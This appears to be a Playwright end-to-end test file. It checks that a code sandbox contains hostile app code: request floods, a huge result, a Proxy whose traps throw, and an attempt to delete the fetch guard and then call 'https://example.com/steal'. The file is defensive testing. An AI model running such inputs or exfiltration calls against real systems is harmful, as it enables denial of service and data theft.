/**
 * Untrusted app code cannot freeze the page or reach it (issue 18): floods of requests, a huge
 * result, a thrown Proxy whose traps throw and an undone network guard are each answered at once
 * with what was cut; the page stays responsive (typing in Monaco echoes within a second), no
 * property appears on the page's prototypes, and the workspace, world and history are intact.
 */
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import { hostileZoo, SandboxPage } from './pages/sandbox.ts';

test.describe.configure({ timeout: 180_000 });

const g = '(globalThis as unknown as Record<string, any>)';
const EVIL_PROXY =
  "new Proxy({}, { get() { throw 'x'; }, getPrototypeOf() { throw 'x'; }, has() { throw 'x'; }, ownKeys() { throw 'x'; }, getOwnPropertyDescriptor() { throw 'x'; } })";

const CASES: [name: string, code: string, seen: string][] = [
  [
    'flood',
    "                await Promise.all(Array.from({ length: 20000 }, () => read.getRoomReader().getByName('general').catch(() => null)));\n                return true;",
    "2,001 requests: stopped after 2,000 (hookscope's limit per call); the call was ended",
  ],
  ['bigresult', "                return 'x'.repeat(50_000_000) as unknown as boolean;", 'cannot be sent to the host: it is'],
  ['proxy', `                throw ${EVIL_PROXY};`, 'The thrown value cannot be read'],
  [
    'unguard',
    // The guards are permanent: delete throws (strict mode), and fetch still answers from the mocks.
    `                try { delete ${g}['XMLHttpRequest']; } catch (e) { console.log('refused: ' + String(e)); }\n                try { delete ${g}['fetch']; } catch (e) { console.log('refused: ' + String(e)); }\n                await ${g}['fetch']('https://example.com/steal');\n                return true;`,
    'fetch failed: No HTTP mock matches GET https://example.com/steal',
  ],
];

/** Own property names of the page's built-in prototypes. */
const prototypeNames = (page: Page) =>
  page.evaluate(() => [Object.prototype, Array.prototype, Function.prototype, String.prototype].map((p) => Object.getOwnPropertyNames(p).sort().join(',')));

/** Typing into Monaco shows up within a second (the page is not frozen). */
/**
 * Within a second on an idle machine; on a busy shared one (the suite runs on 2 cores with other
 * work) the limit is three times the echo measured before any flood, never less than a second.
 */
async function expectResponsive(s: SandboxPage, marker: string, limitMs = 5000): Promise<number> {
  // The edit before reloads App 2 (transpile, new worker): let that settle, then measure the page alone.
  await expect(s.wb.appRow('app-2')).not.toContainText('loading', { timeout: 30_000 });
  await s.page.getByTestId('editor').locator('.view-lines').click();
  await s.page.keyboard.press('ControlOrMeta+End');
  // One input event (not one per character): what is measured is the page answering, not typing speed.
  await s.page.keyboard.press('Enter');
  await s.page.keyboard.insertText(`// ${marker}`);
  const started = Date.now();
  await expect(s.page.getByTestId('editor').locator('.view-lines')).toContainText(marker, { timeout: limitMs });
  const took = Date.now() - started;
  console.log(`[untrusted] ${marker}: echoed in ${took} ms (limit ${limitMs} ms)`);
  return took;
}

test('request floods, a huge result, a thrown Proxy and an undone guard are answered at once; the page stays responsive', async ({ page }) => {
  const s = new SandboxPage(page);
  const protoBefore = await (async () => {
    await s.wb.open();
    return prototypeNames(page);
  })();
  await s.setup(hostileZoo(Object.fromEntries(CASES.map(([name, code]) => [name, code]))), 20_000);
  const baseline = await expectResponsive(s, 'typing-before');
  const limit = Math.max(1000, 3 * baseline);
  for (const [i, [name, , seen]] of CASES.entries()) {
    await s.createRoom(`evil-${name}`);
    await expect(s.runEntries()).toHaveCount(i + 1);
    // Each is answered long before the 20 s timeout, and the host did not believe any "true".
    await expect(s.answer()).toHaveText('completed', { timeout: 15_000 });
    await expect(s.latestRun()).toContainText(`evil-${name}`);
    await expect(s.latestRun()).toContainText(seen);
    await expect(s.latestRun()).not.toContainText('timed out');
    await expectResponsive(s, `still-typing-${name}`, limit);
  }
  await s.showConsole();
  await expect(s.runLog()).toContainText("refused: TypeError: Cannot delete property 'fetch'");
  expect(await prototypeNames(page)).toEqual(protoBefore);
  await s.expectIntact({ editorContains: 'still-typing-unguard', runsBefore: CASES.length });
  await page.screenshot({ path: 'test-results/untrusted-floods.png' });
});
